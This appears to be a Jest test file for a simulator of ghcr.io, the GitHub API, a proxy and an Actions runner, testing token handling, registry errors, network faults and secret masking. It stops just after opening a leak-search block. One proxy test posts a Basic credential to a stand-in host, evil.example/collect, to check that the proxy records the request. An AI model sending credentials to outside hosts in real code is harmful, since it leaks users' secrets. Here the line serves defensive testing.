import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterEach, describe, expect, it } from '@jest/globals'
import { PLAIN_STORAGE } from '../__tests__/support/engines.ts'
import { needs } from '../__tests__/support/needs.ts'
import { dataResidency, enterprise, githubCom } from './github/servers.ts'
import {
  appInstallation,
  classicPat,
  fineGrainedPat,
  githubToken,
  oauthToken,
  oldGithubToken,
  registryToken,
  type Token
} from './github/tokens.ts'
import { MEDIA, manifest, owner, pkg } from './github/world.ts'
import { ask } from './network/client.ts'
import type { Fault } from './network/faults.ts'
import { evaluate, type Value } from './runner/expressions.ts'
import { formsOf } from './runner/leak-scan.ts'
import { onMachine } from './runner/machine.ts'
import type { JobOptions } from './runner/open-job.ts'
import { openSimulator, type Simulator, type SimulatorOptions } from './simulator.ts'

const simulators: Simulator[] = []
const folders: string[] = []

async function opened(options: SimulatorOptions = {}): Promise<Simulator> {
  const simulator = await openSimulator(options)
  simulators.push(simulator)
  return simulator
}

/** A simulator with one job, and what both were given. */
async function simulate(options: SimulatorOptions = {}, wanted: JobOptions = {}) {
  const simulator = await opened(options)
  return { simulator, job: await simulator.job(wanted) }
}

afterEach(async () => {
  for (const simulator of simulators.splice(0)) await simulator.close()
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true })
})

/** Closes by hand where the closing is what is tested. */
function closing(simulator: Simulator): Promise<void> {
  simulators.splice(simulators.indexOf(simulator), 1)
  return simulator.close()
}

const TOKEN_INPUT = `token: { default: '\${{ github.token }}' }`

/** A throw-away action. In: the source of main and post, which find node's modules by `import`. */
function action(main: string, post?: string, inputs = TOKEN_INPUT): string {
  const folder = mkdtempSync(join(tmpdir(), 'action-'))
  folders.push(folder)
  const runs = `using: node24, main: main.mjs${post === undefined ? '' : ', post: post.mjs'}`
  writeFileSync(join(folder, 'action.yml'), `name: tiny\ninputs:\n  ${inputs}\nruns: { ${runs} }\n`)
  const tools = `import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { execFileSync, spawnSync } from 'node:child_process'
const env = process.env
const token = env.INPUT_TOKEN
const file = (name, text) => appendFileSync(env[name], text)
`
  writeFileSync(join(folder, 'main.mjs'), tools + main)
  if (post !== undefined) writeFileSync(join(folder, 'post.mjs'), tools + post)
  return folder
}

const basic = (token: Token | string, user = 'x') => ({
  authorization: `Basic ${Buffer.from(`${user}:${typeof token === 'string' ? token : token.value}`).toString('base64')}`
})
const bearer = (token: Token | string) => ({
  authorization: `Bearer ${registryToken(typeof token === 'string' ? token : token.value)}`
})
const scope = (image: string, actions: string) =>
  `https://ghcr.io/token?service=ghcr.io&scope=repository:${image}:${actions}`
const firstError = (body: string) => JSON.parse(body).errors[0]
const accept = { accept: Object.values(MEDIA).join(', ') }

describe('the registry', () => {
  it('challenges on /v2/ with its placeholder scope, and on a repository with that one', async () => {
    const { job } = await simulate()
    const ping = await ask(job, 'GET', 'https://ghcr.io/v2/')
    expect(ping.status).toBe(401)
    expect(ping.headers['www-authenticate']).toBe(
      'Bearer realm="https://ghcr.io/token",service="ghcr.io",scope="repository:user/image:pull"'
    )
    const upload = await ask(job, 'POST', 'https://ghcr.io/v2/acme/app/blobs/uploads/', { 'content-length': '0' })
    expect(upload.headers['www-authenticate']).toContain('scope="repository:acme/app:pull"')
  })

  const live = classicPat()
  const dead = classicPat({ name: 'dead', live: false })
  it.each<[string, string, Record<string, string>, number, string]>([
    ['anonymous, public, pull', scope('acme/open', 'pull'), {}, 200, ''],
    ['anonymous, private, pull', scope('acme/app', 'pull'), {}, 401, 'authentication required'],
    ['anonymous, absent', scope('acme/none', 'pull'), {}, 403, 'requested access to the resource is denied'],
    ['anonymous, push', scope('acme/open', 'pull,push'), {}, 403, 'requested access to the resource is denied'],
    ['live, any repository', scope('other/thing', 'pull,push'), basic(live), 200, ''],
    ['dead, public image', scope('acme/open', 'pull'), basic(dead), 403, 'denied'],
    ['nobody by that name', scope('acme/open', 'pull'), basic('ghp_mistyped'), 403, 'denied'],
    ['empty user and password', scope('acme/open', 'pull'), basic('', ''), 403, 'denied']
  ])('answers /token: %s', async (_, address, headers, status, message) => {
    const packages = [pkg('acme/app'), pkg('acme/open', { visibility: 'public' })]
    const { job } = await simulate({ tokens: [live, dead], packages })
    const reply = await ask(job, 'GET', address, headers)
    expect(reply.status).toBe(status)
    if (status !== 200) expect(firstError(reply.body).message).toBe(message)
    else if (headers.authorization) expect(JSON.parse(reply.body).token).toBe(registryToken(live.value))
    else expect(Buffer.from(JSON.parse(reply.body).token, 'base64').toString()).toMatch(/^v1:acme\/open:\d+$/)
  })

  it('takes no POST /token, and no DELETE of an upload session', async () => {
    const { job } = await simulate({ tokens: [live] })
    expect((await ask(job, 'POST', 'https://ghcr.io/token')).status).toBe(405)
    const session = 'https://ghcr.io/v2/acme/app/blobs/uploads/0'
    expect((await ask(job, 'DELETE', session, bearer(live))).status).toBe(405)
  })

  it.each(['relative', 'absolute'] as const)('opens an upload session with a %s Location', async location => {
    const { job } = await simulate({ tokens: [live], location })
    const headers = { ...bearer(live), 'content-length': '0' }
    const reply = await ask(job, 'POST', 'https://ghcr.io/v2/acme/new/blobs/uploads/', headers)
    expect(reply.status).toBe(202)
    expect(reply.headers.location).toMatch(location === 'relative' ? /^\/v2\// : /^https:\/\/ghcr\.io\/v2\//)
  })

  it('serves a manifest by tag and digest to whoever accepts its type, anonymous callers of public images included', async () => {
    const tags = { '1.2': manifest({ mediaType: MEDIA.ociIndex }) }
    const { job } = await simulate({ packages: [pkg('acme/open', { visibility: 'public', tags })] })
    const anonymous = JSON.parse((await ask(job, 'GET', scope('acme/open', 'pull'))).body).token
    const headers = { authorization: `Bearer ${anonymous}` }
    const at = (reference: string) => `https://ghcr.io/v2/acme/open/manifests/${reference}`
    const reply = await ask(job, 'HEAD', at('1.2'), { ...headers, ...accept })
    expect(reply).toMatchObject({ status: 200, body: '' })
    expect(reply.headers).toMatchObject({
      'content-type': MEDIA.ociIndex,
      'docker-content-digest': tags['1.2'].digest
    })
    expect((await ask(job, 'HEAD', at(tags['1.2'].digest), { ...headers, ...accept })).status).toBe(200)
    const narrow = { ...headers, accept: MEDIA.dockerManifest }
    expect((await ask(job, 'GET', at('1.2'), narrow)).status).toBe(404)
    const absent = await ask(job, 'GET', at('9'), { ...headers, ...accept })
    expect(firstError(absent.body).message).toBe('manifest unknown')
    const elsewhere = await ask(job, 'HEAD', 'https://ghcr.io/v2/acme/other/manifests/1', { ...headers, ...accept })
    expect(elsewhere.status).toBe(401)
  })

  it('pages through tags', async () => {
    const tags = Object.fromEntries(['a', 'b', 'c'].map(tag => [tag, manifest({ seed: tag })]))
    const { job } = await simulate({ tokens: [live], packages: [pkg('acme/app', { tags })] })
    const first = await ask(job, 'GET', 'https://ghcr.io/v2/acme/app/tags/list?n=2', bearer(live))
    expect(JSON.parse(first.body)).toEqual({ name: 'acme/app', tags: ['a', 'b'] })
    const [, next] = /^<(.+)>; rel="next"$/.exec(String(first.headers.link)) ?? []
    const second = await ask(job, 'GET', `https://ghcr.io${next}`, bearer(live))
    expect(JSON.parse(second.body).tags).toEqual(['c'])
    expect(second.headers.link).toBeUndefined()
  })

  const workflow = githubToken()
  const sso = classicPat({ name: 'sso', ssoRequiredFor: ['acme'] })
  const app = appInstallation()
  const scopeless = classicPat({ name: 'scopeless', scopes: [] })
  const readOnly = githubToken({ name: 'read-only', packages: 'read' })
  const none = githubToken({ name: 'none', packages: 'none' })
  const mona = classicPat({ name: 'mona', actor: 'mona' })
  const fine = fineGrainedPat()
  const all = [live, dead, workflow, sso, app, scopeless, readOnly, none, mona, fine, oauthToken()]
  const SAML =
    'permission_denied: Resource protected by organization SAML enforcement. You must grant your Personal Access token access to this organization.'
  const SCOPES = 'permission_denied: The token provided does not match expected scopes.'
  const UNAUTHENTICATED = 'unauthenticated: User cannot be authenticated with the token provided.'

  it.each<[string, Token | string, 'push' | 'pull', string, number, string]>([
    ['a live classic PAT pushes', live, 'push', 'acme/app', 202, ''],
    ['an OAuth token pulls', oauthToken(), 'pull', 'acme/app', 200, ''],
    ['GITHUB_TOKEN pushes', workflow, 'push', 'acme/app', 202, ''],
    ['GITHUB_TOKEN creates', workflow, 'push', 'acme/new', 202, ''],
    ['no packages permission, pull', none, 'pull', 'acme/app', 403, 'denied'],
    ['a PAT without scopes, push', scopeless, 'push', 'acme/app', 403, SCOPES],
    ['a PAT without scopes, pull', scopeless, 'pull', 'acme/app', 403, SCOPES],
    ['a fine-grained PAT, push', fine, 'push', 'acme/app', 403, SCOPES],
    ['not under Manage Actions access, push', workflow, 'push', 'acme/closed', 403, 'permission_denied: write_package'],
    ['not under Manage Actions access, pull', workflow, 'pull', 'acme/closed', 403, 'permission_denied: read_package'],
    ['a user without a right, push', mona, 'push', 'acme/app', 403, 'permission_denied: write_package'],
    ['a user who may not create', mona, 'push', 'acme/new', 403, 'permission_denied: create_package'],
    [
      'packages: read, new',
      readOnly,
      'push',
      'acme/new',
      403,
      'installation not allowed to Create organization package'
    ],
    [
      'packages: read, existing',
      readOnly,
      'push',
      'acme/app',
      403,
      'installation not allowed to Write organization package'
    ],
    ['an App, pull', app, 'pull', 'acme/app', 403, 'installation not allowed to Read organization package'],
    [
      "another owner's namespace",
      workflow,
      'push',
      'other/app',
      403,
      'permission_denied: The requested installation does not exist.'
    ],
    ['a dead bearer, push', dead, 'push', 'acme/app', 401, UNAUTHENTICATED],
    ['a malformed bearer, pull', 'nonsense', 'pull', 'acme/app', 401, UNAUTHENTICATED],
    ['no SSO authorisation', sso, 'push', 'acme/app', 403, SAML],
    ['a package that is not there', live, 'pull', 'acme/none', 404, 'repository name not known to registry'],
    ['a scripted row', live, 'push', 'acme/busy', 429, 'toomanyrequests: retry-after: 880.092µs, allowed: 44000/minute']
  ])('says what ghcr.io says: %s', async (_, token, access, image, status, message) => {
    const refusals = [
      {
        image: 'acme/busy',
        on: 'upload' as const,
        status: 429,
        code: 'TOOMANYREQUESTS',
        message: 'toomanyrequests: retry-after: 880.092µs, allowed: 44000/minute'
      }
    ]
    const packages = [pkg('acme/app'), pkg('acme/closed', { actionsAccess: {} })]
    const { job } = await simulate({ tokens: all, packages, refusals })
    const path = access === 'push' ? 'blobs/uploads/' : 'manifests/latest'
    const headers = { ...bearer(token), ...(access === 'push' ? { 'content-length': '0' } : accept) }
    const method = access === 'push' ? 'POST' : 'GET'
    const reply = await ask(job, method, `https://ghcr.io/v2/${image}/${path}`, headers)
    expect(reply.status).toBe(status)
    if (status > 299) expect(firstError(reply.body).message).toBe(message)
  })

  it("speaks of an organisation's policy and its allow list", async () => {
    const owners = { strict: owner({ forbidsClassic: true }), walled: owner({ allowList: true }) }
    const { job } = await simulate({ tokens: [live], owners })
    const push = async (image: string) => {
      const headers = { ...bearer(live), 'content-length': '0' }
      return firstError((await ask(job, 'POST', `https://ghcr.io/v2/${image}/blobs/uploads/`, headers)).body).message
    }
    expect(await push('strict/app')).toMatch(
      /^permission_denied: `strict` forbids access via a personal access token \(classic\)/
    )
    expect(await push('walled/app')).toContain('has an IP allow list enabled, and your IP address is not permitted')
  })

  it('refuses a push for an owner that does not exist, or that has not turned containers on', async () => {
    const owners = { nobody: owner({ exists: false }), late: owner({ hasContainers: false }) }
    const { job } = await simulate({ tokens: [live], owners })
    const push = async (image: string) => {
      const headers = { ...bearer(live), 'content-length': '0' }
      return firstError((await ask(job, 'POST', `https://ghcr.io/v2/${image}/blobs/uploads/`, headers)).body)
    }
    expect(await push('nobody/app')).toEqual({ code: 'DENIED', message: 'not_found: owner not found' })
    expect((await push('late/app')).message).toMatch(
      /^failed_precondition: Improved container support has not been enabled for 'late'/
    )
  })

  it('shows a pushed tag late, and its digest at once', async () => {
    const pushed = manifest({ appearsAt: Date.now() + 1500 })
    const tags = { '1': manifest({ seed: '1' }), '2': pushed }
    const { job } = await simulate({ tokens: [live], packages: [pkg('acme/app', { tags })] })
    const at = async (reference: string) => {
      const url = `https://ghcr.io/v2/acme/app/manifests/${reference}`
      return (await ask(job, 'HEAD', url, { ...bearer(live), ...accept })).status
    }
    const listed = async () =>
      JSON.parse((await ask(job, 'GET', 'https://ghcr.io/v2/acme/app/tags/list', bearer(live))).body).tags
    expect([await at(pushed.digest), await at('2'), await listed()]).toEqual([200, 404, ['1']])
    await sleep(1600)
    expect([await at('2'), await listed()]).toEqual([200, ['1', '2']])
  })

  it('keeps a chart under its whole name apart from the path that helm is given', async () => {
    const charts = pkg('acme/charts/app', { actionsAccess: {} })
    const { job } = await simulate({ tokens: [workflow], packages: [charts] })
    const push = async (image: string) => {
      const headers = { ...bearer(workflow), 'content-length': '0' }
      return (await ask(job, 'POST', `https://ghcr.io/v2/${image}/blobs/uploads/`, headers)).status
    }
    expect([await push('acme/charts'), await push('acme/charts/app')]).toEqual([202, 403])
  })

  it('answers for an index whose children are gone', async () => {
    const child = manifest({ mediaType: MEDIA.ociManifest })
    const manifests = [{ mediaType: child.mediaType, digest: child.digest, size: child.body.length }]
    const index = manifest({ body: JSON.stringify({ schemaVersion: 2, mediaType: MEDIA.ociIndex, manifests }) })
    const { job } = await simulate({ tokens: [live], packages: [pkg('acme/app', { tags: { '1': index } })] })
    const at = async (reference: string) => {
      const url = `https://ghcr.io/v2/acme/app/manifests/${reference}`
      return (await ask(job, 'HEAD', url, { ...bearer(live), ...accept })).status
    }
    expect([await at('1'), await at(child.digest)]).toEqual([200, 404])
  })

  it.each<[string, string, string, Record<string, string>]>([
    ['a path it does not know', 'GET', '/v2/_catalog', bearer(live)],
    ['a name in mixed case', 'HEAD', '/v2/Acme/app/manifests/1', bearer(live)],
    ['the placeholder scope taken literally', 'GET', '/token?service=ghcr.io&scope=repository:user/image:pull', {}],
    ['/token without its service', 'GET', '/token?scope=repository:acme/app:pull', {}],
    [
      'an upload session without Content-Length: 0',
      'POST',
      '/v2/acme/app/blobs/uploads/',
      { ...bearer(live), 'content-length': '2' }
    ],
    ['a blob', 'HEAD', '/v2/acme/app/blobs/sha256:0', bearer(live)]
  ])('refuses %s, and the simulator fails for it', async (_, method, path, headers) => {
    const { simulator, job } = await simulate({ tokens: [live], packages: [pkg('acme/app')] })
    const body = headers['content-length'] === '2' ? '{}' : undefined
    expect((await ask(job, method, `https://ghcr.io${path}`, headers, body)).status).toBe(501)
    await expect(closing(simulator)).rejects.toThrow('the stand-ins were asked what they do not know')
  })

  it("finds another server's token dead, and knows its own", async () => {
    const ghes = enterprise('ghe.example')
    const octo = dataResidency('octo')
    const token = oldGithubToken({ server: ghes.url })
    const { job } = await simulate({ servers: [githubCom, ghes, octo], tokens: [token] })
    const at = (host: string) => ask(job, 'GET', `https://${host}/token?service=${host}`, basic(token))
    expect([await at('ghcr.io'), await at(ghes.registry), await at(octo.registry)].map(({ status }) => status)).toEqual(
      [403, 200, 403]
    )
  })
})

describe('the API', () => {
  it.each<[string, Token, string | undefined]>([
    ['the scopes of a classic PAT', classicPat(), 'write:packages, read:packages'],
    ['empty scopes of a token without any', classicPat({ scopes: [] }), ''],
    ['no scopes of GITHUB_TOKEN', githubToken(), undefined],
    ['no scopes of a fine-grained PAT', fineGrainedPat(), undefined]
  ])('reports %s', async (_, token, scopes) => {
    const expiresAt = '2023-04-26 20:23:26 +0200'
    const { job } = await simulate({ tokens: [{ ...token, expiresAt }] })
    const reply = await ask(job, 'GET', 'https://api.github.com/rate_limit', { authorization: `Bearer ${token.value}` })
    expect(reply.status).toBe(200)
    expect(reply.headers['x-oauth-scopes']).toBe(scopes)
    expect(reply.headers['github-authentication-token-expiration']).toBe(expiresAt)
  })

  it('knows bad credentials, SSO, packages and the prefix of GHES', async () => {
    const ghes = enterprise('ghe.example')
    const sso = classicPat({ ssoRequiredFor: ['acme'] })
    const live = classicPat({ name: 'live' })
    const here = classicPat({ name: 'here', server: ghes.url })
    const packages = [pkg('acme/app/part', { visibility: 'public' })]
    const { job } = await simulate({ servers: [githubCom, ghes], tokens: [sso, live, here], packages })
    const api = (path: string, token: Token | string, host = 'api.github.com') =>
      ask(job, 'GET', `https://${host}${path}`, {
        authorization: `token ${typeof token === 'string' ? token : token.value}`
      })
    expect(await api('/rate_limit', 'ghp_wrong')).toMatchObject({
      status: 401,
      body: expect.stringContaining('Bad credentials')
    })
    expect((await api('/orgs/acme', sso)).headers['x-github-sso']).toMatch(/^required; url=https:/)
    expect((await api('/orgs/acme', live)).status).toBe(200)
    const found = await api('/orgs/acme/packages/container/app%2Fpart', live)
    expect(JSON.parse(found.body)).toMatchObject({ visibility: 'public', repository: { full_name: 'acme/app' } })
    expect((await api('/orgs/acme/packages/container/none', live)).status).toBe(404)
    expect((await api('/api/v3/rate_limit', here, 'ghe.example')).status).toBe(200)
  })

  it('tells a GITHUB_TOKEN without the permission so', async () => {
    const token = githubToken({ packages: 'none' })
    const { job } = await simulate({ tokens: [token], packages: [pkg('acme/app')] })
    const headers = { authorization: `Bearer ${token.value}` }
    const reply = await ask(job, 'GET', 'https://api.github.com/orgs/acme/packages/container/app', headers)
    expect(reply).toMatchObject({
      status: 403,
      body: expect.stringContaining('Resource not accessible by integration')
    })
  })

  it('refuses what it does not know', async () => {
    const { simulator, job } = await simulate({ tokens: [classicPat()] })
    expect((await ask(job, 'GET', 'https://api.github.com/user')).status).toBe(501)
    await expect(closing(simulator)).rejects.toThrow('no such route: GET /user')
  })
})

describe('a fault', () => {
  const token = classicPat()
  const get = async (fault: Fault, headers: Record<string, string> = {}) => {
    const { simulator, job } = await simulate({ tokens: [token], faults: [fault] })
    const once = () => ask(job, 'GET', 'https://ghcr.io/token?service=ghcr.io', { ...basic(token), ...headers })
    return { simulator, once }
  }

  it('is a status with its headers, for so many requests of one client', async () => {
    const { once } = await get({
      on: 'token',
      effect: 'status',
      status: 503,
      headers: { 'retry-after': '1' },
      times: 1,
      userAgent: /^engine/
    })
    expect((await once()).status).toBe(200)
    const { once: engine } = await get(
      { on: 'token', effect: 'status', status: 503, headers: { 'retry-after': '1' }, times: 1, userAgent: /^engine/ },
      { 'user-agent': 'engine/1' }
    )
    expect(await engine()).toMatchObject({ status: 503, headers: { 'retry-after': '1' } })
    expect((await engine()).status).toBe(200)
  })

  it.each<[string, Fault, object]>([
    ['an HTML page', { on: 'token', effect: 'html' }, { status: 502, body: expect.stringContaining('<html>') }],
    [
      'JSON of another shape',
      { on: 'token', effect: 'json', body: { access_token: 7 } },
      { status: 200, body: '{"access_token":7}' }
    ],
    [
      'several challenges',
      { on: 'token', effect: 'challenge', header: ['Basic realm="x"', 'bEaReR realm="y"'] },
      { status: 401, headers: { 'www-authenticate': 'Basic realm="x", bEaReR realm="y"' } }
    ],
    [
      'a redirect',
      { on: 'token', effect: 'redirect', location: 'http://ghcr.io/token' },
      { status: 307, headers: { location: 'http://ghcr.io/token' } }
    ],
    ['a delay', { on: 'token', effect: 'delay', ms: 5 }, { status: 200 }]
  ])('is %s', async (_, fault, reply) => {
    expect(await (await get(fault)).once()).toMatchObject(reply)
  })

  it.each<[string, Fault]>([
    ['a reset', { on: 'token', effect: 'reset' }],
    ['a truncated body', { on: 'token', effect: 'truncated' }],
    ['an endless body that stops at 64 MB', { on: 'token', effect: 'endless' }],
    ['bytes that are no answer', { on: 'token', effect: 'raw', pieces: ['no HTTP\r\n', '\r\n'], everyMs: 1 }],
    [
      'bytes without end, to the same length',
      { on: 'connect', effect: 'raw', pieces: ['HTTP/1.1 ', '200'], endless: true }
    ],
    ['a tunnel that is refused', { on: 'connect', effect: 'unreachable' }],
    ['a tunnel that is reset', { on: 'connect', effect: 'reset' }],
    ['a certificate of another CA', { on: 'connect', effect: 'untrusted' }]
  ])('is %s', async (_, fault) => {
    const { simulator, once } = await get(fault)
    await expect(once()).rejects.toThrow()
    expect(simulator.lines('token', 'connect').at(-1)).toContain(fault.effect)
  })

  it('is a request that hangs until the client goes', async () => {
    const { simulator, once } = await get({ on: 'token', effect: 'hang' })
    const waiting = once()
    const gone = expect(waiting).rejects.toThrow()
    const request = await simulator.until('token')
    expect(request.status).toBeUndefined()
    await closing(simulator)
    await gone
  })
})

describe('the proxy', () => {
  it('refuses other hosts, and remembers what they were told', async () => {
    const { simulator, job } = await simulate()
    await expect(ask(job, 'GET', 'https://evil.example/')).rejects.toThrow('502')
    expect(simulator.requests('foreign')).toMatchObject([{ host: 'evil.example', method: 'CONNECT', status: 502 }])
  })

  it('lets a foreign host be real, and keeps what it is sent', async () => {
    const { simulator, job } = await simulate({ foreign: ['evil.example'] })
    await ask(job, 'POST', 'https://evil.example/collect', { authorization: 'Basic eDp5' }, 'body')
    expect(simulator.requests('foreign')).toMatchObject([
      { path: '/collect', headers: { authorization: 'Basic eDp5' }, body: 'body' }
    ])
  })

  it('asks for its own credential', async () => {
    const { simulator, job } = await simulate({ proxyCredential: 'me:secret' })
    expect((await ask(job, 'GET', 'https://ghcr.io/v2/')).status).toBe(401)
    job.parts.env.HTTPS_PROXY = job.parts.env.HTTPS_PROXY?.replace('me:secret@', '') ?? ''
    await expect(ask(job, 'GET', 'https://ghcr.io/v2/')).rejects.toThrow('407')
    expect(simulator.requests('connect').map(({ status }) => status)).toEqual([200, 407])
  })

  needs('curl').it('is not in the way of plain http on loopback', async () => {
    const token = classicPat()
    const { simulator, job } = await simulate({ tokens: [token] }, { tools: ['curl'], secrets: { PAT: token } })
    const address = `http://${simulator.plainHost}/token?service=${simulator.plainHost}`
    const step = await job.run(`curl -s -o /dev/null -w '%{http_code}' -u 'x:\${{ secrets.PAT }}' '${address}'`)
    expect(step.stdout).toBe('200')
    expect(step.requests).toMatchObject([{ host: simulator.plainHost, kind: 'token' }])
  })

  it('makes everything wait', async () => {
    // Both the tunnel and the request in it.
    const { job } = await simulate({ delayMs: 60 })
    const ends: string[] = []
    await Promise.all([
      sleep(110).then(() => ends.push('a shorter wait')),
      ask(job, 'GET', 'https://ghcr.io/v2/').then(() => ends.push('the answer'))
    ])
    expect(ends).toEqual(['a shorter wait', 'the answer'])
  })
})

describe('the runner', () => {
  it('gives an action its inputs and a clean environment, without GITHUB_TOKEN', async () => {
    const token = githubToken()
    const inputs = `${TOKEN_INPUT}\n  on-denied: { default: fail }\n  two words: {}`
    const folder = action(
      `mkdirSync(env.RUNNER_TEMP + '/kept')
       console.log(JSON.stringify({ denied: env['INPUT_ON-DENIED'], words: env.INPUT_TWO_WORDS, own: token?.length, names: Object.keys(env) }))`,
      undefined,
      inputs
    )
    const { job } = await simulate({ tokens: [token] }, { action: folder })
    const step = await job.uses({ 'two words': 'here' })
    const told = JSON.parse(step.stdout)
    expect(told).toMatchObject({ denied: 'fail', words: 'here', own: token.value.length })
    expect(told.names).toEqual(
      expect.arrayContaining(['GITHUB_OUTPUT', 'RUNNER_TEMP', 'GITHUB_EVENT_PATH', 'HTTPS_PROXY'])
    )
    expect(told.names).not.toContain('GITHUB_TOKEN')
    expect(told.names.filter((name: string) => /npm|JEST|NODE_OPTIONS/i.test(name))).toEqual([])
  })

  it('hands state to the posts, the last one first, even after a failure, with what was exported meanwhile', async () => {
    const folder = action(
      `file('GITHUB_STATE', 'who<<END\\n' + env.INPUT_WHO + '\\nEND\\n')
       file('GITHUB_ENV', 'FROM_' + env.INPUT_WHO + '=main\\n')
       process.exitCode = env.INPUT_WHO === 'b' ? 1 : 0`,
      `console.log('post of', env.STATE_who, 'sees', env.FROM_a, env.FROM_b)
       file('GITHUB_ENV', 'FROM_' + env.STATE_who + '=post\\n')`,
      'who: {}'
    )
    const { job } = await simulate({}, { action: folder })
    await job.uses({ who: 'a' })
    expect((await job.uses({ who: 'b' })).exitCode).toBe(1)
    const posts = await job.end()
    expect(posts.map(({ log }) => log)).toEqual(['post of b sees main main\n', 'post of a sees main post\n'])
    expect(job.status).toBe('failure')
  })

  it('masks a value, its base64 and the base64 of what ends in it', async () => {
    const folder = action(
      `console.log('::add-mask::hunter2-hunter2')
       console.log('is hunter2-hunter2', Buffer.from('hunter2-hunter2').toString('base64'))
       for (const user of ['', 'x', 'xy']) console.log(Buffer.from(user + ':hunter2-hunter2').toString('base64'))`
    )
    const { job } = await simulate({}, { action: folder })
    const step = await job.uses()
    expect(step.masks).toEqual(['hunter2-hunter2'])
    expect(step.log.match(/\*\*\*/g)).toHaveLength(5)
    expect(step.log).not.toContain('hunter2')
  })

  it('refuses an empty mask and commands that went', async () => {
    const { job } = await simulate({}, { action: action(`console.log('::add-mask::')`) })
    await expect(job.uses()).rejects.toThrow('an empty value was masked')
    const { job: other } = await simulate({}, { action: action(`console.log('::set-output name=a::b')`) })
    await expect(other.uses()).rejects.toThrow('set-output')
  })

  it('reads annotations, outputs, groups and stopped commands as the page does', async () => {
    const folder = action(
      `console.log('::debug::quiet\\n::group::Parts\\n::error title=A%3A B::line 1%0Aline 2\\n::endgroup::')
       console.log('::stop-commands::pause\\n::warning::not now\\n::pause::\\n::notice::now')
       file('GITHUB_OUTPUT', 'plain=a=b\\nlong<<E\\n1\\n2\\nE\\n')
       file('GITHUB_STEP_SUMMARY', '# done')`
    )
    for (const debug of [false, true]) {
      const { job } = await simulate({}, { action: folder, debug })
      const step = await job.uses()
      expect(step.annotations).toEqual([
        { level: 'error', title: 'A: B', message: 'line 1\nline 2' },
        { level: 'notice', message: 'now' }
      ])
      expect(step).toMatchObject({ outputs: { plain: 'a=b', long: '1\n2' }, summary: '# done' })
      expect(step.log.startsWith(debug ? '##[debug]quiet\n▼ Parts' : '▼ Parts')).toBe(true)
      expect(step.log).toContain('::warning::not now')
    }
  })

  it('cancels with SIGINT, kills with SIGKILL, and hands the state over all the same', async () => {
    const folder = action(
      `file('GITHUB_STATE', 'begun=yes\\n')
       process.on('SIGINT', () => { console.log('interrupted'); process.exit(3) })
       console.log('ready'); setInterval(() => {}, 1000)`,
      `console.log('begun:', env.STATE_begun)`
    )
    const ready = async (running: { output(): string }) => {
      while (!running.output().includes('ready')) await new Promise(resolve => setTimeout(resolve, 10))
    }
    const { job } = await simulate({}, { action: folder })
    const cancelled = await job.uses({}, { during: running => ready(running).then(() => running.cancel()) })
    expect(cancelled).toMatchObject({ exitCode: 3, stdout: 'ready\ninterrupted\n' })
    expect(job.status).toBe('cancelled')
    const killed = await job.uses({}, { during: running => ready(running).then(() => running.kill('SIGKILL')) })
    expect(killed).toMatchObject({ exitCode: null, signal: 'SIGKILL', state: { begun: 'yes' } })
    expect((await job.end()).map(({ log }) => log)).toEqual(['begun: yes\n', 'begun: yes\n'])
  })

  it("runs a workflow: conditions, outputs, secrets, environments and the token's permissions", async () => {
    const folder = action(
      `file('GITHUB_OUTPUT', 'can-push=' + (env.INPUT_PUSH ? 'true' : 'false') + '\\n'); process.exitCode = Number(env.INPUT_CODE)`,
      undefined,
      'push: {}\n  code: { default: "0" }'
    )
    const file = join(folder, 'workflow.yml')
    writeFileSync(
      file,
      `on: push
permissions: { contents: read, packages: read }
jobs:
  build:
    runs-on: ubuntu-latest
    env: { IMAGE: 'ghcr.io/\${{ github.repository }}' }
    steps:
      - uses: actions/checkout@v5
      - uses: OWNER/ghcr-login@v1
        id: ghcr
        with: { push: '\${{ env.IMAGE }}' }
      - run: echo "can push \${{ steps.ghcr.outputs.can-push }} to $IMAGE as \${#WHO}"
        if: steps.ghcr.outputs.can-push == 'true' && github.event_name != 'pull_request'
        env: { WHO: '\${{ secrets.WHO }}' }
      - uses: ./
        with: { code: 1 }
      - run: echo never
      - run: echo cleaning
        if: \${{ failure() && !cancelled() }}
`
    )
    const token = githubToken()
    const { simulator, job } = await simulate({ tokens: [token] }, { action: folder, secrets: { WHO: 'somebody' } })
    const { steps, skipped } = await job.workflow(file, 'build', { skip: /^actions\/checkout@/ })
    expect(skipped).toEqual(['actions/checkout@v5', 'echo never'])
    expect(steps.map(({ log }) => log)).toEqual(['', 'can push true to ghcr.io/acme/app as 8\n', '', 'cleaning\n'])
    expect(simulator.world.tokens[0]?.packages).toBe('read')
  })

  it.each<[string, Value]>([
    ["github.repository == 'ACME/app'", true],
    ["steps.none.outputs.x || 'else'", 'else'],
    ["!(env.A && env.B) && 'yes' || 'no'", 'yes'],
    ["env['A'] != 'it''s'", true],
    ["contains(fromJSON('[1, 2]'), 2) && startsWith(env.A, 'O')", true],
    ['env.N == 1', true],
    ["format('{0}/{1}', github.repository, env.N)", 'acme/app/1']
  ])('evaluates %s', (expression, value) => {
    const contexts = { github: { repository: 'acme/app' }, steps: {}, env: { A: 'one', N: '1' } }
    expect(evaluate(expression, contexts)).toBe(value)
  })

  it.each(['github.', "hashFiles('x')", 'needs.build.result', "'a' 'b'", 'a + b'])('refuses %s', expression => {
    expect(() => evaluate(expression, { github: {} })).toThrow(/^(?:Unexpected|Unrecognized|Too)/)
  })

  it('lets jobs run at the same time on one home, each with its own RUNNER_TEMP and its own requests', async () => {
    const simulator = await opened()
    const home = join(simulator.folder, 'home')
    mkdirSync(home)
    const [first, second] = await Promise.all([simulator.job({ home }), simulator.job({ home })])
    const steps = await Promise.all(
      [first, second].map((job, i) => job.run(`echo ${i} >>"$HOME/both"; echo "$RUNNER_TEMP"`))
    )
    expect(new Set(steps.map(({ stdout }) => stdout)).size).toBe(2)
    await ask(first, 'GET', 'https://ghcr.io/v2/')
    expect((await second.run('wc -l <"$HOME/both"')).requests).toEqual([])
    expect((await first.run('wc -l <"$HOME/both"')).requests).toHaveLength(2)
  })

  it('empties RUNNER_TEMP when the job ends', async () => {
    const { job } = await simulate()
    await job.run('echo something >"$RUNNER_TEMP/kept"')
    await job.end()
    const { job: after } = await simulate({}, { env: { OLD: job.folder.runnerTemp } })
    expect((await after.run('ls "$OLD" | wc -l')).stdout.trim()).toBe('0')
  })
})

describe('the leak search', () => {
